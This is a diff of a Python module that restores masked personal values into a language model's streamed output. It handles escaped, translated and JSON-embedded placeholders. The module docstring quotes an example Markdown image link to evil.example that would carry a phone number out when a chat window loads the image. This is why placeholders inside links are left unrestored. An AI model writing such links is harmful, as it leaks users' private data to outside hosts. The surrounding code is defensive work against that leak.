@@ -1,9 +1,14 @@
 """Puts values back into a stream of text, wherever the other side wrote one of our placeholders.
 
-What counts as a placeholder: kind, index and nonce exactly as issued, and around and between them what models
-and Markdown do to them: any case, full-width characters, spaces inside, ``_`` escaped, replaced by ``-`` or
-lost, zeros before the index, brackets missing, full-width or escaped. The index is compared as a number and
-the nonce letter by letter; nothing is guessed.
+What counts as a placeholder: index and nonce exactly as issued, and around and between them what models and
+Markdown do to them: another kind (translated, reworded) or none, any case, full-width characters, spaces and
+line breaks inside, ``_`` escaped, replaced by ``-`` or lost, zeros before the index, brackets missing,
+full-width or escaped as in Markdown, JSON, HTML and URLs. Without brackets the kind has to be one that was
+issued, or a word of capital letters. The index is compared as a number and the nonce letter by letter;
+nothing is guessed.
+
+In JSON (:mod:`sllm.privacy.json_places`) a value is written so that the JSON stays valid: escaped in a
+string, in quotes where there are none, and a number that was masked without them.
 
 Where a value would be sent to somebody (:mod:`sllm.privacy.link_places`), its placeholder stays: the other
 side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``, and a chat window loads images by itself.
@@ -14,37 +19,52 @@ from __future__ import annotations
 import functools
 import html
 import re
+import urllib.parse
+from dataclasses import dataclass
 from typing import TYPE_CHECKING
 
+from sllm.privacy.findings import KINDS
+from sllm.privacy.json_places import JsonPlaces, encoded_string
 from sllm.privacy.link_places import LinkPlaces
 from sllm.privacy.regex import lazy
 from sllm.privacy.text import fold_char
 
 if TYPE_CHECKING:
-    from sllm.privacy.placeholders import Placeholders
+    from sllm.privacy.placeholders import Form, Placeholders
 
 __all__ = ["Restorer"]
 
 _OPEN = frozenset("[［【〔")
 _CLOSE = frozenset("]］】〕")
-_SPACE = frozenset(" \t\u00a0\u3000\u200b\u200c\u200d\u2060\ufeff\u202f")
+# Brackets as other formats escape them: what opens, and what closes then.
+_ENCODED = {"\\u005b": "\\u005d", "%5b": "%5d", "&#91;": "&#93;"}
+_ENCODED_FIRST = frozenset(opening[0] for opening in _ENCODED)
+_SPACE = frozenset(" \t\r\n\u00a0\u3000\u200b\u200c\u200d\u2060\ufeff\u202f")
 _JOINER = frozenset("_-*‐‑–＿－")
 _ESCAPE = "\\"
+_ESCAPED_SPACE = frozenset("nrt")  # as JSON and programs write what is in _SPACE
 # Bounds of what is skipped, so that what is held back is bounded too.
-_MAX_SPACES = 2
+_MAX_SPACES = 4
 _MAX_ZEROS = 6
+_MAX_KIND = 24
 # How far behind a placeholder the rest of a host name is looked for; there may be more placeholders in it.
 _MAX_HOST = 512
 _DIGITS = frozenset("0123456789")
 _LETTERS = frozenset("abcdefghijklmnopqrstuvwxyz")
 _WORD = _LETTERS | _DIGITS | {"_"}
 
-# The shape of a placeholder that was not issued, back from its closing bracket; and of one with our nonce.
-_UNKNOWN = lazy(r"[\[［【〔] ?[^\W\d_]{1,16}[_ -]{1,2}[0-9]{1,9}[_ -]{1,2}[a-z][a-z0-9]{3,11} ?\Z", re.I)
-_UNKNOWN_WITH_NONCE = lazy(r"(?<![^\W_])([^\W\d_]{1,16})[\\_ *-]{0,4}([0-9]{1,9})[\\_ *-]{0,4}\Z")
+# The shape of a placeholder that was not issued, back from its closing bracket; and of one without a nonce.
+_UNKNOWN = lazy(
+    r"(?:[\[［【〔]|%5b|\\u005b|&#91;)\s?[^\W\d_]{1,16}[_\s-]{1,4}[0-9]{1,9}(?:[_\s-]|\\[nrt]){1,4}[a-z][a-z0-9]{3,11}\s?\Z",
+    re.I,
+)
+_WITHOUT_NONCE = lazy(
+    r"(?:[\[［【〔]|%5b|\\u005b|&#91;)\s?([a-z]{2,16})[_\s-]{1,4}0{0,6}([1-9][0-9]{0,8})\s?\Z", re.I
+)
 _BRACKET = lazy(r"[\[\]]")
-_CLOSING = lazy(r"[\]］】〕]")
+_CLOSING = lazy(r"[\]］】〕]|%5d|\\u005d|&#93;", re.I)
 _TAIL = 80
+_LONGEST_NONCE = 16  # characters at the border of two pieces that may belong to one
 
 # What ends a label of a host name for every program that looks for such names, and what ends an address.
 _SEPARATORS = r"\s<>!'()*/?{}，。！？；：、…“”‘’「」『』《》〈〉（）／—·｡､"
@@ -62,19 +82,29 @@ _OTHER_HOST = lazy(r"[@＠%]|[.．][^\W_]|[。｡][A-Za-z0-9]")
 
 
 @functools.lru_cache(maxsize=256)
-def _starts(firsts: str) -> re.Pattern[str]:
-    wide = "".join(chr(ord(char) + offset) for char in firsts for offset in (0, -32, 0xFEE0, 0xFEC0))
-    return re.compile(rf"[\\\[［【〔]|(?<![A-Za-z0-9_])[{wide}]")
-
-
-@functools.lru_cache(maxsize=256)
-def _ends(nonces: tuple[str, ...]) -> re.Pattern[str]:
-    """Characters at which something that looks like a placeholder can end."""
-    return re.compile(rf"[\]］】〕{''.join({nonce[-1] + nonce[-1].upper() for nonce in nonces})}]")
+def _starts(firsts: str, *, quotes: bool) -> re.Pattern[str]:
+    """Where a placeholder can begin: at a bracket or its escape, at a capital letter or a first letter of a
+    kind, and with ``quotes`` at the quote before a number that was masked.
+    """
+    wide = "".join(chr(ord(char) + offset) for char in firsts for offset in (0, 0xFEE0))
+    quote = '"' if quotes else ""
+    return re.compile(rf"[\\%&\[［【〔{quote}]|(?<![A-Za-z0-9_])[A-ZＡ-Ｚ{wide}]")
 
 
 class _UndecidedError(Exception):
     """What was received so far does not decide whether it is a placeholder."""
+
+
+@dataclass(frozen=True, slots=True)
+class _Match:
+    """A placeholder in a text: the offset behind it, what it stands for, the bracket that opens it (or ""),
+    and whether it is taken together with the quotes around it.
+    """
+
+    end: int
+    form: Form
+    opening: str
+    quoted: bool = False
 
 
 class _Reader:
@@ -101,12 +131,19 @@ class _Reader:
         char = self.at(j)
         return fold_char(char) if char else ""
 
+    def literal(self, j: int, expected: str) -> bool:
+        """Whether this stands at ``j``, in any case."""
+        return all(self.at(j + i).lower() == char for i, char in enumerate(expected))
+
     def skip(self, j: int) -> int:
         """The offset after the spaces that begin at ``j``."""
         for _ in range(_MAX_SPACES):
-            if self.at(j) not in _SPACE:
+            if self.at(j) in _SPACE:
+                j += 1
+            elif self.at(j) == _ESCAPE and self.at(j + 1) in _ESCAPED_SPACE:
+                j += 2
+            else:
                 break
-            j += 1
         return j
 
     def joint(self, j: int) -> int:
@@ -142,7 +179,8 @@ class Restorer:
 
     Attributes:
         n_restored: placeholders replaced so far.
-        n_unknown: what looks like a placeholder and was never issued; it stays as it is.
+        n_unknown: what looks like a placeholder and was never issued, or has lost its index or its nonce; it
+            stays as it is.
         n_in_links: placeholders that were issued and stay as they are, because of where they stand.
 
     Examples:
@@ -166,7 +204,9 @@ class Restorer:
         self.n_restored = 0
         self.n_unknown = 0
         self.n_in_links = 0
+        self._missed = ""  # the last of what was returned unchanged, folded, for counting
         self._places = LinkPlaces()  # of the text as it is returned
+        self._json = JsonPlaces()  # likewise
 
     def __repr__(self) -> str:
         return (
@@ -197,12 +237,13 @@ class Restorer:
         return self._scan(self._held)
 
     def _scan(self, text: str) -> str:
-        if not self._placeholders.first_letters:
+        issued = self._placeholders
+        if not issued.kind_prefixes:
             self._held = ""
             self._pass(text)
             return text
-        # A placeholder can begin at a bracket, its escape, or the first letter of a kind.
-        starts = _starts(self._placeholders.first_letters)
+        firsts = "".join(sorted(prefix for prefix in issued.kind_prefixes if len(prefix) == 1))
+        starts = _starts(firsts, quotes=issued.has_scalars)
         out: list[str] = []
         at = 0  # up to here everything is in `out`
         search = 0
@@ -217,37 +258,42 @@ class Restorer:
             at = i
             try:
                 match = self._match(text, i, before)
-                in_link = match is not None and self._in_link(text, *match)
+                in_link = match is not None and self._in_link(text, match.end, match.form.text)
             except _UndecidedError:
                 self._held = text[i:]
                 return "".join(out)
             if match is None:
                 search = i + 1
                 continue
-            end, value = match
-            at = search = end
+            at = search = match.end
             if in_link:
                 self.n_in_links += 1
-                out.append(text[i:end])
-                self._pass(text[i:end])
+                self._pass(text[i : match.end], counted=True)
+                out.append(text[i : match.end])
                 continue
+            value = self._written(match)
             out.append(value)
-            if not self._restores_in_links:
-                self._places.feed(value, restored=True)
+            self._json.feed(value)
+            self._places.feed(value, restored=True)
             self.n_restored += 1
-            self._before = text[end - 1]
+            self._missed = ""
+            self._before = text[match.end - 1]
         self._held = ""
         self._pass(text[at:])
         out.append(text[at:])
         return "".join(out)
 
-    def _pass(self, text: str) -> None:
-        """Notes what is returned unchanged."""
+    def _pass(self, text: str, *, counted: bool = False) -> None:
+        """Notes what is returned unchanged; ``counted``: it is a placeholder, and has been counted."""
         if not text:
             return
+        if counted:
+            self._missed = ""
+        else:
+            self._count_nonces(text)
         self._before = text[-1]
-        if not self._restores_in_links:
-            self._places.feed(text)
+        self._json.feed(text)
+        self._places.feed(text)
         line = text.rfind("\n")
         if line >= 0:
             self._depth = 0
@@ -255,27 +301,52 @@ class Restorer:
         for bracket in _BRACKET.finditer(text):
             self._depth = self._depth + 1 if bracket[0] == "[" else max(0, self._depth - 1)
 
-    def _match(self, text: str, i: int, before: str) -> tuple[int, str] | None:
-        """The placeholder that begins at ``i``: where it ends, and its value."""
-        issued = self._placeholders
+    def _written(self, match: _Match) -> str:
+        """How the value is written where the placeholder stands."""
+        form = match.form
+        place = self._json.place
+        if place == "string":
+            return encoded_string(form.text) if form.in_json is None else form.in_json
+        if place == "value" and self._json.certain and not match.quoted and not form.is_scalar:
+            return f'"{encoded_string(form.text)}"'
+        if match.opening == "%5b" and self._places.inside:
+            return urllib.parse.quote(form.text, safe="")
+        return form.text
+
+    def _match(self, text: str, i: int, before: str) -> _Match | None:
+        """The placeholder that begins at ``i``, if one does."""
         reader = _Reader(text, self._final)
+        if text[i] != '"':
+            return self._match_bare(reader, i, before)
+        # A string of JSON that is nothing but the placeholder of a number: the number has no quotes.
+        if self._json.place != "value":
+            return None
+        match = self._match_bare(reader, i + 1, '"')
+        if match is None or not match.form.is_scalar or reader.at(match.end) != '"':
+            return None
+        return _Match(match.end + 1, match.form, match.opening, quoted=True)
+
+    def _match_bare(self, reader: _Reader, i: int, before: str) -> _Match | None:
+        issued = self._placeholders
         j = i
-        escaped = reader.at(j) == _ESCAPE
-        if escaped:
-            j += 1
-        opened = reader.at(j) in _OPEN
-        if opened:
-            j = reader.skip(j + 1)
+        opening = ""
+        escaped = False
+        if reader.at(j) in _ENCODED_FIRST:
+            opening = next((one for one in _ENCODED if reader.literal(j, one)), "")
+            j += len(opening)
+        if not opening:
+            escaped = reader.at(j) == _ESCAPE
+            j += escaped
+            if reader.at(j) in _OPEN:
+                opening = reader.at(j)
+                j += 1
+        if opening:
+            kind, j = self._kind(reader, reader.skip(j))
         elif escaped or (before and fold_char(before) in _WORD):
             return None
-        kind = ""
-        while (char := reader.folded(j)) in _LETTERS:
-            kind += char
-            if kind not in issued.kind_prefixes:
-                return None
-            j += 1
-        indices = issued.index_prefixes.get(kind)
-        if indices is None:
+        else:
+            kind, j = self._bare_kind(reader, j)
+        if j < 0:
             return None
         j = reader.joint(j)
         for _ in range(_MAX_ZEROS):
@@ -285,13 +356,13 @@ class Restorer:
         number = ""
         while (char := reader.folded(j)) in _DIGITS:
             number += char
-            if number not in indices:
+            if number not in issued.index_prefixes:
                 return None
             j += 1
         if not number:
             return None
         j = reader.joint(j)
-        nonces = issued.nonces_of(kind, int(number))
+        nonces = issued.nonces_of(int(number))
         nonce = ""
         while nonce not in nonces:
             nonce += reader.folded(j) or "\n"
@@ -300,9 +371,49 @@ class Restorer:
             j += 1
         if reader.folded(j)[:1] in _WORD:
             return None
-        value = issued.value(kind, int(number), nonce)
-        end = self._end(reader, j, opened=opened, escaped=escaped)
-        return None if value is None or end is None else (end, value)
+        end = self._end(reader, j, opening, escaped=escaped)
+        form = issued.form(kind, int(number), nonce)
+        return None if end is None or form is None else _Match(end, form, opening)
+
+    def _kind(self, reader: _Reader, j: int) -> tuple[str, int]:
+        """A kind in brackets, in lower case, which may be any words or none, and the offset behind it; -1: it
+        is none.
+        """
+        start = j
+        words: list[str] = []
+        spaced = False
+        while True:
+            word = ""
+            while (char := reader.folded(j)).isalpha():
+                word += char.upper() if reader.at(j).isupper() else char
+                j += 1
+                if j - start > _MAX_KIND:
+                    return "", -1
+            words.append(word)
+            behind = reader.joint(j)
+            if behind == j or not reader.folded(behind).isalpha():
+                break
+            spaced = spaced or reader.at(j) in _SPACE
+            j = behind
+        # "[see NAME_1_k7q4]": the last word alone is the kind.
+        if spaced and self._is_kind(words[-1]) and not all(map(self._is_kind, words)):
+            return "", -1
+        return "_".join(words).lower(), j
+
+    def _is_kind(self, word: str) -> bool:
+        return word.isupper() or word.lower() in self._placeholders.kind_prefixes
+
+    def _bare_kind(self, reader: _Reader, j: int) -> tuple[str, int]:
+        """A kind without brackets, issued or of capital letters, and the offset behind it; -1: it is none."""
+        kind = ""
+        capital = True
+        while (char := reader.folded(j)) in _LETTERS:
+            kind += char
+            capital = capital and reader.at(j).isupper()
+            if len(kind) > _MAX_KIND or not (capital or kind in self._placeholders.kind_prefixes):
+                return "", -1
+            j += 1
+        return kind, j if kind else -1
 
     def _in_link(self, text: str, end: int, value: str) -> bool:
         """Whether the value of a placeholder that ends at ``end`` would be part of a link."""
@@ -348,40 +459,46 @@ class Restorer:
         assert found is not None
         return found[0], found.end() == len(text) < start + _MAX_HOST and not self._final
 
-    def _end(self, reader: _Reader, j: int, *, opened: bool, escaped: bool) -> int | None:
+    def _end(self, reader: _Reader, j: int, opening: str, *, escaped: bool) -> int | None:
         """The end of a placeholder whose nonce ends at ``j``; None if it is not one after all."""
-        k = reader.skip(j) if opened else j
+        k = reader.skip(j) if opening else j
+        if opening in _ENCODED:
+            closing = _ENCODED[opening]
+            return k + len(closing) if reader.literal(k, closing) else j
         escape = reader.at(k) == _ESCAPE
         closed = reader.at(k + escape) in _CLOSE
         if escaped and not (closed and escape):
             # The backslash is the text's own; the bracket after it begins the placeholder.
             return None
-        if closed and not opened and reader.at(k + escape) == "]" and not escape and self._depth > 0:
+        if closed and not opening and reader.at(k + escape) == "]" and not escape and self._depth > 0:
             # It closes a bracket that was open before.
             closed = False
         return k + escape + 1 if closed else j
 
+    def _count_nonces(self, text: str) -> None:
+        """Counts the nonces in what is returned unchanged: each was a part of a placeholder."""
+        folded = "".join(map(fold_char, text))
+        seen = self._missed + folded
+        for nonce in self._placeholders.nonces:
+            at = seen.find(nonce, max(0, len(self._missed) - len(nonce) + 1))
+            while at >= 0:
+                self.n_unknown += 1
+                at = seen.find(nonce, at + len(nonce))
+        self._missed = seen[-_LONGEST_NONCE + 1 :]
+
     def _count(self, chunk: str) -> None:
-        """Counts what looks like a placeholder and was never issued, at the character that ends it."""
-        issued = self._placeholders
+        """Counts what looks like a placeholder without a nonce of ours, at the bracket that closes it."""
         text = self._tail + chunk
         start = len(self._tail)
-        nonces = issued.nonces
-        if not _ends(nonces).search(chunk):
-            self._tail = text[-_TAIL:]
-            return
-        lower = text.lower() if len(text.lower()) == len(text) else text
-        for nonce in nonces:
-            at = lower.find(nonce, max(0, start - len(nonce) + 1))
-            while at >= 0:
-                end = at + len(nonce)
-                if end > start:
-                    shape = _UNKNOWN_WITH_NONCE.search(text[max(0, at - 48) : at])
-                    if shape and issued.value(shape[1].lower(), int(shape[2]), nonce) is None:
-                        self.n_unknown += 1
-                at = lower.find(nonce, at + 1)
-        for close in _CLOSING.finditer(text, start):
-            shape = _UNKNOWN.search(text[max(0, close.start() - 60) : close.start()])
-            if shape and not any(nonce in shape[0].lower() for nonce in nonces):
-                self.n_unknown += 1
+        for close in _CLOSING.finditer(text, max(0, start - 5)):
+            if close.end() <= start:
+                continue
+            before = text[max(0, close.start() - 60) : close.start()]
+            if shape := _UNKNOWN.search(before):
+                self.n_unknown += not any(nonce in shape[0].lower() for nonce in self._placeholders.nonces)
+            elif shape := _WITHOUT_NONCE.search(before):
+                kind, index = shape[1].lower(), int(shape[2])
+                issued = self._placeholders
+                known = kind.upper() in KINDS or kind in issued.kind_prefixes
+                self.n_unknown += known and bool(issued.nonces_of(index))
         self._tail = text[-_TAIL:]
